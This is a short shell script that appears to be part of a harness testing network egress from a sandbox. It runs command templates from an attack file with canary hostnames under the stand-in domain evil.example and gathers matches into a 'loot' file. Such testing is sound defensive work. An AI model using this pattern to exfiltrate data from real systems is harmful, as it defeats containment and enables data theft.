#!/bin/sh
: > "$ARENA/ws/ran"
while IFS='	' read -r row command; do
  echo "$row" >> tried
  if [ "$row" = granted ]; then curl -s -m 3 http://test.example/ | sed -n "s/.*$CANARY.*/$CANARY-granted-/p" >> loot; continue; fi
  name=$CANARY-$row-x.evil.example
  timeout 1 sh -c "$(echo "$command" | sed "s/NAME/$name/")" > /dev/null 2>&1 &
done < .attack/rows.tsv
wait
